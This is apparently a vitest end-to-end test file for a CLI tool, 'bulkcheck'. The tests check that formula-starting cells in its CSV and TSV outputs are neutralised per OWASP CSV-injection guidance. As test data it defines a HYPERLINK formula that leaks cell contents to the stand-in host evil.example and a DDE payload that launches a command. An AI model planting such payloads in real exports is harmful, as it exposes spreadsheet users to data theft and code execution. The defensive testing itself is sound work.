import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { FULL_TASK, sendEnvelope, startServer } from "../api/scripted-server.js";
import { allowSmallTasks, objectsOf, oneTaskService, parseDelimited, tamperingProxy } from "../helpers/results-fixtures.js";
import { e2eSandboxes, gbList, lines, submitArgs, submittedIds } from "../helpers/sandbox.js";

/**
 * Issue 18, point 13: a cell a spreadsheet would run as a formula. What the service
 * sent is never one, in any CSV or TSV bulkcheck writes; the user's own cells come back
 * as they were unless --safe-csv (OWASP's CSV-injection guidance: a `'` in front).
 */
const sandbox = e2eSandboxes();
const closers: Array<() => Promise<unknown>> = [];
afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()));
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const DDE = "+cmd|' /C calc'!A0";

describe("formulas in CSV and TSV output", () => {
  it("neutralises every cell of a result that would start a formula, in CSV (quoted or not) and TSV, header names included", async () => {
    const values = [HYPERLINK, DDE, "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1", "＝1+1", "plain", "-"];
    const expected = ["'" + HYPERLINK, "'" + DDE, "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\r=1+1", "'＝1+1", "plain", "'-"];
    const quote = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
    const body = [
      "identifier,carrier,underlying_carrier,number_type,country_code,region,city,=note",
      ...values.map((value, i) => `4474001000${10 + i},${quote(value)},EE,mobile,GB,,,x`),
    ].join("\n");
    const service = await oneTaskService({
      body: body + "\n",
      contentType: "text/csv",
      task: { product: "carrier_batch", total: values.length, success_cnt: values.length },
    });
    closers.push(service.close);
    const e = await sandbox();
    const env = { env: { BULKCHECK_BASE_URL: service.url } };
    for (const [format, delimiter] of [
      ["csv", ","],
      ["tsv", "\t"],
    ] as const) {
      const out = await e.bin(["download", service.id, "--format", format, "-o", `out.${format}`], env);
      expect(out.code, out.stderr).toBe(0);
      const rows = parseDelimited(readFileSync(join(e.dir, `out.${format}`), "utf8"), delimiter);
      expect(rows[0]!.at(-1)).toBe("'=note");
      expect(rows.slice(1).map((row) => row[1])).toEqual(expected);
      expect(rows.slice(1).map((row) => row[0])).toEqual(values.map((_, i) => `4474001000${10 + i}`));
    }
  });

  it("joins the source back byte for byte and neutralises only the service's cells; --safe-csv neutralises the source's too", async () => {
    const e = await sandbox({ minTaskSize: 1, fakeClock: false });
    await allowSmallTasks(e);
    const proxy = await tamperingProxy(e.sandbox.url, {
      result: (csv) => csv.replace(/^(\d+),(true|false)$/m, `$1,"${DDE}"`),
    });
    closers.push(() => proxy.close());
    const numbers = gbList(4);
    const sourceLines = [
      "name,phone",
      `"${HYPERLINK.replaceAll('"', '""')}",${numbers[0]}`,
      ...numbers.slice(1).map((n, i) => `@person${i},${n}`),
    ];
    const source = e.file("crm.csv", sourceLines.join("\n") + "\n");
    const env = { env: { BULKCHECK_BASE_URL: proxy.url } };

    const out = await e.bin(submitArgs(source, "--wait", "--interval", "0.2", "--join", "-o", "joined.csv"), env);
    expect(out.code, out.stderr).toBe(0);
    const joined = lines(readFileSync(join(e.dir, "joined.csv"), "utf8"));
    joined.forEach((line, i) => expect(line.startsWith(sourceLines[i]! + ",")).toBe(true));
    const rows = objectsOf(parseDelimited(joined.join("\n")));
    expect(rows.map((row) => row.activated)).toContain("'" + DDE);
    expect(rows.map((row) => row.name)).toEqual([HYPERLINK, "@person0", "@person1", "@person2"]);

    const [id] = submittedIds(out.stderr);
    const safe = await e.bin(["download", id!, "--join", source, "-o", "safe.csv", "--safe-csv"], env);
    expect(safe.code, safe.stderr).toBe(0);
    const safeRows = objectsOf(parseDelimited(readFileSync(join(e.dir, "safe.csv"), "utf8")));
    expect(safeRows.map((row) => row.name)).toEqual(["'" + HYPERLINK, "'@person0", "'@person1", "'@person2"]);
    expect(safeRows.map((row) => row.phone)).toEqual(numbers.map((n) => "'" + n));
    expect(safeRows.map((row) => row.activated)).toContain("'" + DDE);
  });

  it("writes the rejects' values as read, and with --safe-csv neutralised, in validate and submit", async () => {
    const e = await sandbox();
    const list = e.file("list.csv", ["phone", "=1+1", "+44 7400 100001", "@bad", "-"].join("\n") + "\n");
    const plain = await e.bin(["validate", list, "--country", "GB", "--rejects", "rejects.csv"]);
    expect(plain.code, plain.stderr).toBe(0);
    const values = (file: string) => objectsOf(parseDelimited(readFileSync(join(e.dir, file), "utf8"))).map((row) => row.value);
    expect(values("rejects.csv")).toEqual(["=1+1", "@bad", "-"]);
    const safe = await e.bin(["validate", list, "--country", "GB", "--rejects", "safe.csv", "--safe-csv"]);
    expect(safe.code, safe.stderr).toBe(0);
    expect(values("safe.csv")).toEqual(["'=1+1", "'@bad", "'-"]);
    const dryRun = await e.bin(submitArgs(list, "--dry-run", "--rejects", "submit-rejects.csv", "--safe-csv"));
    expect(dryRun.code, dryRun.stderr).toBe(3); // one number to check, fewer than a task takes; the rejects are written first
    expect(values("submit-rejects.csv")).toEqual(["'=1+1", "'@bad", "'-"]);
  });

  it("neutralises the service's values in the tab-separated listing status prints when piped", async () => {
    const server = await startServer((req, res) =>
      sendEnvelope(req, res, { code: 0, data: { ...FULL_TASK, product: HYPERLINK, country: "@GB" } }),
    );
    closers.push(() => server.close());
    const e = await sandbox();
    const out = await e.bin(["status", FULL_TASK.id], { env: { BULKCHECK_BASE_URL: server.origin } });
    expect(out.code, out.stderr).toBe(0);
    const [header, row] = lines(out.stdout).map((line) => line.split("\t"));
    expect(row![header!.indexOf("PRODUCT")]).toBe("'" + HYPERLINK);
    expect(row![header!.indexOf("COUNTRY")]).toBe("'@GB");
  });
});
